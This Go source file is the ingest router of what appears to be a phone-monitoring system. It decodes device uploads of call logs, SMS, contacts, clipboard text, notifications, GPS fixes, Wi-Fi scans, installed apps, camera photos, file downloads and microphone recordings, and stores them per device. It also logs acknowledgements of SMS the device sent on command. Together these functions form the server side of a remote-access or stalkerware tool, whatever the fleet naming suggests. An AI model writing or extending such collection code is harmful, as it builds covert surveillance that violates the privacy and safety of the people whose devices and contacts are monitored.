package ingest

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"time"

	"github.com/google/uuid"

	"github.com/fleetlink/fleetlink/internal/protocol"
	"github.com/fleetlink/fleetlink/internal/store"
	"github.com/fleetlink/fleetlink/internal/transfer"
)

// Router decodes inbound report payloads per kind and writes records and
// status documents. Device-reported errors (a denied permission, a failed
// scan) are data: they land in the device's per-kind status document and are
// never returned as faults.
type Router struct {
	store     store.Store
	dedup     *Deduplicator
	transfers *transfer.Reassembler
}

func NewRouter(st store.Store, dedup *Deduplicator, transfers *transfer.Reassembler) *Router {
	return &Router{store: st, dedup: dedup, transfers: transfers}
}

// Handle routes one inbound report. Decode failures are returned; per-record
// store failures are logged and the remaining records still processed.
func (r *Router) Handle(ctx context.Context, deviceID string, kind protocol.Kind, payload json.RawMessage) error {
	switch kind {
	case protocol.KindCall:
		return r.handleCalls(ctx, deviceID, payload)
	case protocol.KindSMS:
		return r.handleSMS(ctx, deviceID, payload)
	case protocol.KindContacts:
		return r.handleContacts(ctx, deviceID, payload)
	case protocol.KindWifi:
		return r.handleWifi(ctx, deviceID, payload)
	case protocol.KindNotification:
		return r.handleNotification(ctx, deviceID, payload)
	case protocol.KindClipboard:
		return r.handleClipboard(ctx, deviceID, payload)
	case protocol.KindLocation:
		return r.handleLocation(ctx, deviceID, payload)
	case protocol.KindPermissions:
		return r.handlePermissions(ctx, deviceID, payload)
	case protocol.KindInstalled:
		return r.handleApps(ctx, deviceID, payload)
	case protocol.KindCamera:
		return r.handleCamera(ctx, deviceID, payload)
	case protocol.KindFiles:
		return r.handleFiles(ctx, deviceID, payload)
	case protocol.KindMic:
		return r.handleMic(ctx, deviceID, payload)
	default:
		slog.Warn("Report with unhandled kind dropped", "device_id", deviceID, "kind", kind)
		return nil
	}
}

func (r *Router) handleCalls(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.CallReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed call report: %w", err)
	}
	if len(report.CallsList) == 0 {
		return nil
	}

	newCount := 0
	for _, call := range report.CallsList {
		fingerprint := FingerprintCall(call)
		rec := store.CallRecord{CallEntry: call, Fingerprint: fingerprint}
		outcome, err := r.dedup.Ingest(ctx, deviceID, store.CollectionCalls, fingerprint, rec)
		if err != nil {
			slog.Error("Failed to store call record", "device_id", deviceID, "error", err)
			continue
		}
		if outcome == OutcomeInserted {
			newCount++
		}
	}
	slog.Info("Call log updated", "device_id", deviceID, "new", newCount)
	return nil
}

func (r *Router) handleSMS(ctx context.Context, deviceID string, payload json.RawMessage) error {
	// A bare boolean acknowledges an outbound sendSMS.
	if bytes.Equal(bytes.TrimSpace(payload), []byte("true")) {
		slog.Info("SMS sent by device", "device_id", deviceID)
		return nil
	}

	var report protocol.SMSReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed sms report: %w", err)
	}

	now := time.Now()
	if report.Error != "" {
		status := store.SMSStatus{LastError: &report.Error, LastUpdated: &now}
		if err := r.store.SetDoc(ctx, deviceID, store.DocSMSStatus, status); err != nil {
			return err
		}
		slog.Error("SMS error reported", "device_id", deviceID, "error", report.Error)
		return nil
	}

	newCount := 0
	for _, sms := range report.SMSList {
		fingerprint := FingerprintSMS(sms)
		rec := store.SMSRecord{SMSEntry: sms, Fingerprint: fingerprint}
		outcome, err := r.dedup.Ingest(ctx, deviceID, store.CollectionSMS, fingerprint, rec)
		if err != nil {
			slog.Error("Failed to store sms record", "device_id", deviceID, "error", err)
			continue
		}
		if outcome == OutcomeInserted {
			newCount++
		}
	}

	status := store.SMSStatus{
		LastUpdated: &now,
		ItemCount:   len(report.SMSList),
		Truncated:   report.Truncated,
	}
	if err := r.store.SetDoc(ctx, deviceID, store.DocSMSStatus, status); err != nil {
		return err
	}

	slog.Info("SMS list updated", "device_id", deviceID, "items", len(report.SMSList), "new", newCount)
	return nil
}

func (r *Router) handleContacts(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.ContactsReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed contacts report: %w", err)
	}
	if len(report.ContactsList) == 0 {
		return nil
	}

	newCount := 0
	for _, contact := range report.ContactsList {
		contact.PhoneNo = NormalizePhone(contact.PhoneNo)
		fingerprint := FingerprintContact(contact)
		rec := store.ContactRecord{ContactEntry: contact, Fingerprint: fingerprint}
		outcome, err := r.dedup.Ingest(ctx, deviceID, store.CollectionContacts, fingerprint, rec)
		if err != nil {
			slog.Error("Failed to store contact record", "device_id", deviceID, "error", err)
			continue
		}
		if outcome == OutcomeInserted {
			newCount++
		}
	}
	slog.Info("Contacts updated", "device_id", deviceID, "new", newCount)
	return nil
}

func (r *Router) handleWifi(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.WifiReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed wifi report: %w", err)
	}

	now := time.Now()
	if report.Error != "" {
		status := store.WifiStatus{
			LastError:         &report.Error,
			LastUpdated:       &now,
			ScanRequested:     report.ScanRequested,
			LastScanTimestamp: report.Timestamp,
			LocationEnabled:   report.LocationEnabled,
			HasFineLocation:   report.HasFineLocation,
			HasCoarseLocation: report.HasCoarseLocation,
		}
		if err := r.store.SetDoc(ctx, deviceID, store.DocWifiStatus, status); err != nil {
			return err
		}
		slog.Error("WiFi error reported", "device_id", deviceID, "error", report.Error)
		return nil
	}

	if err := r.store.SetDoc(ctx, deviceID, store.DocWifiNow, report.Networks); err != nil {
		return err
	}

	newCount := 0
	for _, network := range report.Networks {
		outcome, err := r.dedup.IngestWifi(ctx, deviceID, network)
		if err != nil {
			slog.Error("Failed to store wifi sighting", "device_id", deviceID, "error", err)
			continue
		}
		if outcome == OutcomeInserted {
			newCount++
		}
	}

	status := store.WifiStatus{
		LastUpdated:       &now,
		NetworkCount:      len(report.Networks),
		ScanRequested:     report.ScanRequested,
		LastScanTimestamp: report.Timestamp,
		LocationEnabled:   report.LocationEnabled,
		HasFineLocation:   report.HasFineLocation,
		HasCoarseLocation: report.HasCoarseLocation,
	}
	if err := r.store.SetDoc(ctx, deviceID, store.DocWifiStatus, status); err != nil {
		return err
	}

	slog.Info("WiFi updated", "device_id", deviceID, "networks", len(report.Networks), "new", newCount)
	return nil
}

func (r *Router) handleNotification(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.NotificationReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed notification report: %w", err)
	}

	fingerprint := FingerprintNotification(report)
	rec := store.NotificationRecord{NotificationReport: report, Fingerprint: fingerprint}
	outcome, err := r.dedup.Ingest(ctx, deviceID, store.CollectionNotifications, fingerprint, rec)
	if err != nil {
		return err
	}
	if outcome == OutcomeInserted {
		slog.Info("Notification received", "device_id", deviceID, "app", report.AppName)
	}
	return nil
}

func (r *Router) handleClipboard(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.ClipboardReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed clipboard report: %w", err)
	}

	now := time.Now()
	if report.Text == "" {
		reason := "clipboard event received without text"
		status := store.ClipboardStatus{LastError: &reason, LastUpdated: &now}
		if err := r.store.SetDoc(ctx, deviceID, store.DocClipboardStatus, status); err != nil {
			return err
		}
		slog.Warn("Clipboard event empty", "device_id", deviceID)
		return nil
	}

	rec := store.ClipboardRecord{Time: now, Content: report.Text}
	if err := r.store.AppendRecord(ctx, deviceID, store.CollectionClipboardLog, uuid.NewString(), rec); err != nil {
		return err
	}
	status := store.ClipboardStatus{LastUpdated: &now}
	if err := r.store.SetDoc(ctx, deviceID, store.DocClipboardStatus, status); err != nil {
		return err
	}
	slog.Info("Clipboard received", "device_id", deviceID)
	return nil
}

func (r *Router) handleLocation(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(payload, &fields); err != nil {
		return fmt.Errorf("malformed location report: %w", err)
	}
	if _, ok := fields["latitude"]; !ok {
		slog.Error("GPS report without coordinates", "device_id", deviceID)
		return nil
	}
	if _, ok := fields["longitude"]; !ok {
		slog.Error("GPS report without coordinates", "device_id", deviceID)
		return nil
	}

	var report protocol.LocationReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed location report: %w", err)
	}

	rec := store.GPSRecord{Time: time.Now(), LocationReport: report}
	if err := r.store.AppendRecord(ctx, deviceID, store.CollectionGPS, uuid.NewString(), rec); err != nil {
		return err
	}
	slog.Info("GPS updated", "device_id", deviceID)
	return nil
}

func (r *Router) handlePermissions(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.PermissionsReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed permissions report: %w", err)
	}
	if err := r.store.SetDoc(ctx, deviceID, store.DocPermissions, report.Permissions); err != nil {
		return err
	}
	slog.Info("Permissions updated", "device_id", deviceID, "count", len(report.Permissions))
	return nil
}

func (r *Router) handleApps(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.AppsReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed apps report: %w", err)
	}

	now := time.Now()
	if report.Error != "" {
		status := store.AppsStatus{
			LastError:        &report.Error,
			LastUpdated:      &now,
			IncludeSystem:    report.IncludeSystem,
			TotalPackages:    report.TotalPackages,
			ReturnedPackages: report.ReturnedPackages,
		}
		if err := r.store.SetDoc(ctx, deviceID, store.DocAppsStatus, status); err != nil {
			return err
		}
		slog.Error("Apps error reported", "device_id", deviceID, "error", report.Error)
		return nil
	}

	if err := r.store.SetDoc(ctx, deviceID, store.DocApps, report.Apps); err != nil {
		return err
	}
	status := store.AppsStatus{
		LastUpdated:      &now,
		AppCount:         len(report.Apps),
		IncludeSystem:    report.IncludeSystem,
		TotalPackages:    report.TotalPackages,
		ReturnedPackages: report.ReturnedPackages,
		Filtered:         report.Filtered,
	}
	if err := r.store.SetDoc(ctx, deviceID, store.DocAppsStatus, status); err != nil {
		return err
	}
	slog.Info("Apps updated", "device_id", deviceID, "count", len(report.Apps))
	return nil
}

func (r *Router) handleCamera(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.CameraReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed camera report: %w", err)
	}

	switch {
	case report.CamList:
		if err := r.store.SetDoc(ctx, deviceID, store.DocCameras, report.List); err != nil {
			return err
		}
		slog.Info("Camera list updated", "device_id", deviceID, "count", len(report.List))

	case report.Image:
		image, err := base64.StdEncoding.DecodeString(report.Buffer)
		if err != nil || len(image) == 0 {
			slog.Error("Camera image empty or undecodable", "device_id", deviceID, "error", err)
			return nil
		}
		key, err := r.store.SaveBlob(ctx, deviceID, "camera.jpg", image)
		if err != nil {
			return err
		}
		shot := store.CameraShotRecord{
			Time:     time.Now(),
			CameraID: report.CameraID,
			BlobKey:  key,
			Size:     len(image),
		}
		if err := r.store.AppendRecord(ctx, deviceID, store.CollectionCameraShots, uuid.NewString(), shot); err != nil {
			return err
		}
		slog.Info("Camera image saved", "device_id", deviceID, "size", len(image))

	case report.Error != "":
		slog.Error("Camera error reported", "device_id", deviceID, "error", report.Error)
	}
	return nil
}

func (r *Router) handleFiles(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.FilesReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed files report: %w", err)
	}

	now := time.Now()
	switch report.Type {
	case protocol.FilesTypeList:
		if err := r.store.SetDoc(ctx, deviceID, store.DocCurrentFolder, report.List); err != nil {
			return err
		}
		status := store.FileStatus{LastUpdated: &now, LastPath: report.Path}
		if err := r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status); err != nil {
			return err
		}
		slog.Info("File list updated", "device_id", deviceID, "items", len(report.List))

	case protocol.FilesTypeDownload:
		if report.Buffer == "" {
			slog.Error("File download without buffer", "device_id", deviceID, "name", report.Name)
			return nil
		}
		if err := r.transfers.Single(ctx, deviceID, report.Name, report.Buffer, "download"); err != nil {
			reason := err.Error()
			status := store.FileStatus{LastError: &reason, LastUpdated: &now, LastPath: report.Path}
			return r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status)
		}
		status := store.FileStatus{LastUpdated: &now, LastPath: report.Path}
		if err := r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status); err != nil {
			return err
		}
		slog.Info("File received", "device_id", deviceID, "name", report.Name)

	case protocol.FilesTypeDownloadStart:
		r.transfers.Begin(deviceID, report.TransferID, transfer.Meta{
			Name:        report.Name,
			Path:        report.Path,
			TotalChunks: report.TotalChunks,
			TotalSize:   report.TotalSize,
		})
		slog.Info("Chunked download started",
			"device_id", deviceID, "transfer_id", report.TransferID, "chunks", report.TotalChunks)

	case protocol.FilesTypeDownloadChunk:
		r.transfers.Fragment(report.TransferID, report.ChunkIndex, report.ChunkData)

	case protocol.FilesTypeDownloadEnd:
		if err := r.transfers.End(ctx, report.TransferID); err != nil {
			// Reconstruction failures are logged by the reassembler and
			// not retried; the file status records the outcome.
			reason := err.Error()
			status := store.FileStatus{LastError: &reason, LastUpdated: &now}
			return r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status)
		}
		status := store.FileStatus{LastUpdated: &now}
		if err := r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status); err != nil {
			return err
		}

	case protocol.FilesTypeError:
		message := report.Error
		if message == "" {
			message = "unknown file explorer error"
		}
		status := store.FileStatus{LastError: &message, LastUpdated: &now, LastPath: report.Path}
		if err := r.store.SetDoc(ctx, deviceID, store.DocFileStatus, status); err != nil {
			return err
		}
		slog.Error("File explorer error", "device_id", deviceID, "error", message)

	default:
		slog.Warn("Files report with unknown type dropped", "device_id", deviceID, "type", report.Type)
	}
	return nil
}

func (r *Router) handleMic(ctx context.Context, deviceID string, payload json.RawMessage) error {
	var report protocol.MicReport
	if err := json.Unmarshal(payload, &report); err != nil {
		return fmt.Errorf("malformed mic report: %w", err)
	}
	if !report.File {
		return nil
	}

	slog.Info("Voice recording received", "device_id", deviceID, "name", report.Name)
	return r.transfers.Single(ctx, deviceID, report.Name, report.Buffer, "voiceRecord")
}
